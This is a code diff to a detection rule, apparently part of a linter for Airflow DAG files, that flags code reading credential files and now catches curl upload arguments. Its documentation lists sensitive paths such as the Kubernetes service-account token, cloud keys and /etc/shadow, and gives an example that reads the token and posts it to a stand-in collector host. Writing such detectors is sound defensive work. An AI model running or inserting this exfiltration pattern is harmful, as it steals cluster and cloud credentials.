@@ -25,9 +25,23 @@ function what(path: string): string {
   return 'cloud or service credentials';
 }
 
+/** The element before `node` in a list or tuple (an argv list), if any. */
+function previousElement(node: SyntaxNode): SyntaxNode | null {
+  const p = node.parent;
+  if (p?.type !== 'list' && p?.type !== 'tuple') return null;
+  let prev: SyntaxNode | null = null;
+  for (const c of p.namedChildren) {
+    if (c.id === node.id) return prev;
+    if (c.type !== 'comment') prev = c;
+  }
+  return null;
+}
+
 /** Does the string at `node` reach a file reader (an enclosing call in the same statement) or a shell command that reads? */
 function isRead(node: SyntaxNode, ctx: RuleContext, depth = 0): boolean {
   if (SHELL_READ.test(node.text)) return true;
+  // curl's upload arguments in an argv list: `-F "cfg=@/opt/airflow/airflow.cfg"`, `-d @file`, `-T file`
+  if (/(?:^["']?|[\s="'])@/.test(node.text) || /^["']?-(?:T|-upload-file)["']?$/.test(previousElement(node)?.text ?? '')) return true;
   for (let n: SyntaxNode | null = node.parent; n && !/_statement$|^(block|module)$/.test(n.type); n = n.parent) {
     if (n.type !== 'call') continue;
     const f = n.childForFieldName('function');
@@ -68,7 +82,7 @@ export default defineRule({
     message: 'reads `{path}`: {what}',
     docs: {
       what:
-        'Finds code that reads files holding credentials by their path: the pod\'s Kubernetes service-account token (`/var/run/secrets/kubernetes.io/serviceaccount/token`), cloud and kube credentials (`~/.aws/credentials`, `~/.config/gcloud/…`, `application_default_credentials.json`, `~/.kube/config`, `~/.azure/`), SSH keys, `~/.netrc`, `~/.pgpass`, `~/.docker/config.json`, Airflow\'s own `airflow.cfg` / `webserver_config.py`, `/proc/<pid>/environ` and `/etc/shadow` — passed to `open`, `io.open`, `pathlib.Path(…).read_text()`, `shutil.copy*` (through `os.path.expanduser`/`join` too), or read by a shell command (`cat`, `base64`, `curl -d @…`). *Critical* at parse time, *high* in a task. A path mentioned anywhere else (a volume mount path in a pod spec) is not reported.',
+        'Finds code that reads files holding credentials by their path: the pod\'s Kubernetes service-account token (`/var/run/secrets/kubernetes.io/serviceaccount/token`), cloud and kube credentials (`~/.aws/credentials`, `~/.config/gcloud/…`, `application_default_credentials.json`, `~/.kube/config`, `~/.azure/`), SSH keys, `~/.netrc`, `~/.pgpass`, `~/.docker/config.json`, Airflow\'s own `airflow.cfg` / `webserver_config.py`, `/proc/<pid>/environ` and `/etc/shadow` — passed to `open`, `io.open`, `pathlib.Path(…).read_text()`, `shutil.copy*` (through `os.path.expanduser`/`join` too), or read by a shell command (`cat`, `base64`, `curl -d @…`), also as curl\'s upload arguments in an argv list (`["curl", "-F", "cfg=@/opt/airflow/airflow.cfg", …]`, `"-T", path`). *Critical* at parse time, *high* in a task. A path mentioned anywhere else (a volume mount path in a pod spec) is not reported.',
       why:
         'On Kubernetes every scheduler, dag-processor and worker pod has a service-account token that speaks to the cluster API, and `airflow.cfg` holds the metadata DB password and the fernet key that decrypts every connection. A DAG file that reads them is stealing the deployment\'s keys — at parse time, with no task, no log and no review of a run.',
       example: '```python\ntoken = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://collector.example", data=token)\n```',
